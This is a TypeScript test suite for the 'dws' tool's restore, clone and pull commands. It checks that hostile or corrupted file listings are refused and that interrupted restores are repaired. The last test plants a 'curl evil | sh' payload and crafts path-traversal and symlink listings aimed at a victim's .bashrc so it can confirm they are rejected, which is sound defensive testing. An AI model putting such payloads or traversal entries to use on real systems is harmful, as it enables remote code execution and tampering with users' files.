/**
 * What a restore refuses and survives, through the real command line:
 * hostile file listings (generated) and listings that do not hash to their
 * key are refused with one line before anything changes; a flipped byte in
 * an object is refused naming it, and fetched again from the object remote
 * when one is set; a restore killed with SIGKILL is finished (or cleaned
 * up) by the next command, and no temporary file reaches a snapshot.
 */
import assert from "node:assert/strict";
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { readListing } from "../../core/store/listing.ts";
import { ObjectStore } from "../../core/store/object_store.ts";
import {
  dws,
  dwsOk,
  folderState,
  ignoreWithout,
  initWorkspace,
  run,
  type Sandbox,
  sandbox,
  useLocalRcloneRemote,
} from "../test_utils.ts";
import { hostileListings } from "../core/models/hostile_listings.ts";
import { expectFailure, MD_DIR, snapshotHash } from "./snapshot_helpers.ts";

const noRclone = ignoreWithout("rclone");

/** Workspace with local-files `data` (a file in a folder, 2 top files), snapshot S1, then an edit. */
async function snapshotThenEdit(sb: Sandbox) {
  const ws = await initWorkspace(sb);
  const data = join(sb.dir, "data");
  mkdirSync(join(data, "sub"), { recursive: true });
  writeFileSync(join(data, "a.csv"), "a,1\n");
  writeFileSync(join(data, "b.bin"), new Uint8Array(5000).map((_, i) => i % 251));
  writeFileSync(join(data, "sub", "c.txt"), "c\n");
  await dwsOk(sb, ["--batch", "add", "local-files", "--role", "source-data", data], { cwd: ws });
  const h1 = snapshotHash(await dwsOk(sb, ["--batch", "snapshot", "S1"], { cwd: ws }));
  const s1 = folderState(data);
  writeFileSync(join(data, "a.csv"), "a,2 edited\n");
  writeFileSync(join(data, "b.bin"), new Uint8Array(5000).map((_, i) => (i * 3) % 251));
  rmSub(data);
  return { ws, data, h1, s1, store: new ObjectStore(join(ws, "scratch", "objects")) };
}

function rmSub(data: string): void {
  Deno.removeSync(join(data, "sub"), { recursive: true });
}

/** Point snapshot `hash`'s listing of `data` at `key` (metadata edited in place, as a hostile origin would). */
function pointListingAt(ws: string, hash: string, key: string): void {
  const path = join(ws, MD_DIR, `${hash}_md.json`);
  const md = JSON.parse(readFileSync(path, "utf8"));
  md.dws_restore_hashes.data = key;
  writeFileSync(path, JSON.stringify(md, null, 2));
}

/** The object of the snapshot's listing file for path `rel`. */
function objectOf(store: ObjectStore, listingKey: string, rel: string): string {
  return readListing(store, listingKey)!.files.find((f) => f.path === rel)!.sha1;
}

function flipByte(store: ObjectStore, key: string): void {
  const p = store.path(key);
  const bytes = readFileSync(p);
  bytes[2] ^= 0x10;
  chmodSync(p, 0o644);
  writeFileSync(p, bytes);
}

Deno.test("restore refuses generated hostile listings and a listing that does not hash to its key; nothing changes", async () => {
  using sb = sandbox();
  const { ws, data, h1, store } = await snapshotThenEdit(sb);
  const outside = join(sb.dir, "victim-home");
  mkdirSync(outside);
  const mdPath = join(ws, MD_DIR, `${h1}_md.json`);
  const original = readFileSync(mdPath, "utf8");
  const key = JSON.parse(original).dws_restore_hashes.data;
  // A sample of the generator across its kinds (the model and store tests run all of them).
  const all = hostileListings();
  const sample = all.filter((_, i) => i % Math.ceil(all.length / 10) === 0);
  sample.push(...all.filter((c) => /bashrc|link then a file beneath|a file twice|truncated at 8$/.test(c.name)));
  for (const { name, text } of sample) {
    pointListingAt(ws, h1, store.putBytes(text));
    const r = await expectFailure(sb, ws, ["--batch", "restore", "S1"], {
      stderr:
        /^Configuration error: File listing [0-9a-f]{40} is not (a valid file listing \(.*\)|valid UTF-8); nothing was changed$/,
      also: [data, outside],
    });
    assert.doesNotMatch(r.stderr, /\bat .*\.ts:\d+/, `${name}: no stack trace`);
  }
  // The snapshot's own listing key, but other bytes (truncated at a line end: still parses).
  writeFileSync(mdPath, original);
  const bytes = readFileSync(store.path(key), "utf8");
  chmodSync(store.path(key), 0o644);
  writeFileSync(store.path(key), bytes.slice(0, bytes.lastIndexOf("F\t")));
  const before = folderState(data);
  const r = await dws(sb, ["--batch", "restore", "S1"], { cwd: ws });
  assert.equal(r.code, 1);
  assert.match(
    r.stderr,
    new RegExp(
      `^Configuration error: Object ${key} in the object store .* is corrupted: its content does not match its ` +
        `SHA-1; moved to .*bad; nothing was changed; run 'dws pull' to fetch it again .*\n$`,
    ),
  );
  assert.deepEqual(folderState(data), before);
  assert.deepEqual(folderState(outside), {});
});

Deno.test("a flipped byte in an object without an object remote: refused naming it, the folder unchanged", async () => {
  using sb = sandbox();
  const { ws, data, h1, store } = await snapshotThenEdit(sb);
  const listingKey = JSON.parse(readFileSync(join(ws, MD_DIR, `${h1}_md.json`), "utf8")).dws_restore_hashes.data;
  const bad = objectOf(store, listingKey, "b.bin");
  flipByte(store, bad);
  // Before the fix this restored the wrong bytes with exit 0.
  const r = await dws(sb, ["--batch", "restore", "S1"], { cwd: ws });
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(r.stderr, new RegExp(`^Configuration error: Object ${bad} in the object store .* is corrupted`));
  assert.equal(r.stderr.trimEnd().split("\n").length, 1);
  assert.equal(readFileSync(join(data, "a.csv"), "utf8"), "a,2 edited\n", "nothing changed");
  assert.ok(!readdirSync(data).some((n) => n.startsWith(".dws-restore-")), "no temporaries left");
  const again = await dws(sb, ["--batch", "restore", "S1"], { cwd: ws });
  assert.match(again.stderr, /file\(s\) of the snapshot are not in the object store .*run 'dws pull'/);
});

Deno.test({
  name: "a flipped byte in an object with an object remote: set aside, fetched again, the restore completes",
  ignore: noRclone,
  async fn() {
    using sb = sandbox();
    const { ws, data, h1, s1, store } = await snapshotThenEdit(sb);
    useLocalRcloneRemote(sb);
    await dwsOk(sb, ["--batch", "config", "object_store.remote", `objremote:${join(sb.dir, "remote")}`], { cwd: ws });
    const bare = join(sb.dir, "origin.git");
    await run(sb, ["git", "init", "-q", "--bare", bare], { cwd: sb.dir });
    await dwsOk(sb, ["--batch", "publish", bare], { cwd: ws });
    const listingKey = JSON.parse(readFileSync(join(ws, MD_DIR, `${h1}_md.json`), "utf8")).dws_restore_hashes.data;
    const bad = objectOf(store, listingKey, "b.bin");
    flipByte(store, bad);
    const r = await dwsOk(sb, ["--batch", "restore", "S1"], { cwd: ws });
    assert.match(
      r.stderr,
      new RegExp(`1 corrupted object\\(s\\) of 'data' set aside \\(first: ${bad}\\); fetching them again`),
    );
    assert.deepEqual(folderState(data), s1);
    assert.ok(existsSync(join(store.dir, "bad", bad)), "the bad copy is kept aside");
  },
});

for (const fault of ["restore-staged", "restore-apply"]) {
  Deno.test(`restore killed at ${fault}: the next command reports it and ${fault === "restore-apply" ? "finishes" : "undoes"} it`, async () => {
    using sb = sandbox();
    const { ws, data, s1 } = await snapshotThenEdit(sb);
    writeFileSync(join(data, "added.txt"), "added\n");
    const edited = folderState(data);
    const killed = await dws(sb, ["--batch", "restore", "S1"], { cwd: ws, env: { DWS_FAULT: fault } });
    assert.notEqual(killed.code, 0);
    assert.ok(
      readdirSync(data).some((n) => n.startsWith(".dws-restore-")),
      "the killed restore left its staging folder",
    );
    const status = await dwsOk(sb, ["report", "status"], { cwd: ws });
    assert.match(status.stderr, /An interrupted restore was found; the next dws command that changes the workspace/);
    // The next locking command repairs first; its snapshot records no temporary file.
    const snap = await dwsOk(sb, ["--batch", "snapshot", "S2"], { cwd: ws });
    assert.match(
      snap.stderr,
      fault === "restore-apply"
        ? /Finished an interrupted restore of 'data' .*'dws restore --undo' brings back the state before it/
        : /An interrupted restore of 'data' had not changed .* yet; its temporary files were removed/,
    );
    assert.deepEqual(folderState(data), fault === "restore-apply" ? s1 : edited);
    const md = JSON.parse(readFileSync(join(ws, MD_DIR, `${snapshotHash(snap)}_md.json`), "utf8"));
    const store = new ObjectStore(join(ws, "scratch", "objects"));
    const paths = readListing(store, md.dws_restore_hashes.data)!.files.map((f) => f.path);
    assert.ok(!paths.some((p) => p.includes(".dws-restore-")), paths.join(", "));
    if (fault === "restore-apply") {
      await dwsOk(sb, ["--batch", "restore", "--undo"], { cwd: ws });
      assert.deepEqual(folderState(data), edited, "the work the killed restore overwrote is back");
    }
  });
}

Deno.test("a snapshot never records restore temporaries left in the folder", async () => {
  using sb = sandbox();
  const { ws, data } = await snapshotThenEdit(sb);
  mkdirSync(join(data, ".dws-restore-999-0"));
  writeFileSync(join(data, ".dws-restore-999-0", "0"), "half");
  writeFileSync(join(data, ".dws-restore-12-3"), "old temp");
  const snap = await dwsOk(sb, ["--batch", "snapshot", "S2"], { cwd: ws });
  const md = JSON.parse(readFileSync(join(ws, MD_DIR, `${snapshotHash(snap)}_md.json`), "utf8"));
  const listing = readListing(new ObjectStore(join(ws, "scratch", "objects")), md.dws_restore_hashes.data)!;
  assert.deepEqual(listing.files.map((f) => f.path), ["a.csv", "b.bin"]);
  // A restore clears them away (they are dws's, not kept).
  await dwsOk(sb, ["--batch", "restore", "S1"], { cwd: ws });
  assert.ok(!readdirSync(data).some((n) => n.startsWith(".dws-restore-")));
});

/** Put `bytes` on the rclone local object remote at `remoteDir` as object `key` (what a hostile remote holds). */
function putOnRemote(remoteDir: string, key: string, bytes: string | Uint8Array): void {
  mkdirSync(join(remoteDir, "objects", key.slice(0, 2)), { recursive: true });
  writeFileSync(join(remoteDir, "objects", key.slice(0, 2), key.slice(2)), bytes);
}

Deno.test({
  name:
    "clone and pull from a hostile origin + object remote: listings escaping the folder are refused, nothing written",
  ignore: noRclone,
  async fn() {
    using sb = sandbox();
    useLocalRcloneRemote(sb);
    const remoteDir = join(sb.dir, "remote");
    const { ws, data, h1, store } = await snapshotThenEdit(sb);
    await dwsOk(sb, ["--batch", "config", "object_store.remote", `objremote:${remoteDir}`], { cwd: ws });
    const bare = join(sb.dir, "origin.git");
    await run(sb, ["git", "init", "-q", "--bare", bare], { cwd: sb.dir });
    await dwsOk(sb, ["--batch", "publish", bare], { cwd: ws });
    const victimHome = join(sb.dir, "victim-home");
    mkdirSync(victimHome);
    const payload = "curl evil | sh\n";
    const payloadKey = store.putBytes(payload);
    putOnRemote(remoteDir, payloadKey, payload);
    const f = (p: string) => `F\t${payloadKey}\t644\t${payload.length}\t${p}\n`;
    const hostile = [
      `dws-file-listing 1\n${f("../victim-home/.bashrc")}`,
      `dws-file-listing 1\n${f("home/.bashrc")}L\thome\t${victimHome}\n`,
    ];
    // The attacker's folder is elsewhere: the victims' clones must create `data` from the listing.
    Deno.renameSync(data, join(sb.dir, "attacker-data"));
    // One victim cloned before the attack (its data in a folder of its choice) and pulls after it.
    const pullerData = join(sb.dir, "puller-data");
    const cloned = await dws(sb, ["clone", "--hostname", "puller", bare, "puller"], {
      cwd: sb.dir,
      stdin: `${pullerData}\n`,
    });
    assert.equal(cloned.code, 0, cloned.stdout + cloned.stderr);
    const pullerState = folderState(pullerData);
    for (const [i, text] of hostile.entries()) {
      const key = store.putBytes(text);
      putOnRemote(remoteDir, key, text);
      pointListingAt(ws, h1, key);
      await run(sb, ["git", "commit", "-qam", `hostile ${i}`], { cwd: ws });
      await run(sb, ["git", "push", "-q", "origin", "HEAD"], { cwd: ws });
      const r = await dws(sb, ["--batch", "clone", "--hostname", "victim", bare, `victim${i}`], { cwd: sb.dir });
      assert.equal(r.code, 1, r.stdout + r.stderr);
      assert.match(
        r.stderr,
        new RegExp(
          `^Configuration error: File listing ${key} is not a valid file listing \\(.+\\); nothing was changed\\n$`,
        ),
      );
      assert.deepEqual(folderState(victimHome), {}, "nothing written outside");
      assert.ok(!existsSync(data), "no data folder made");
    }
    const puller = join(sb.dir, "puller");
    await dwsOk(sb, ["--batch", "pull"], { cwd: puller });
    const r = await dws(sb, ["--batch", "restore", "S1"], { cwd: puller });
    assert.equal(r.code, 1, r.stdout + r.stderr);
    assert.match(r.stderr, /^Configuration error: File listing [0-9a-f]{40} is not a valid file listing .*\n$/);
    assert.deepEqual(folderState(victimHome), {}, "nothing written outside");
    assert.deepEqual(folderState(pullerData), pullerState);
  },
});
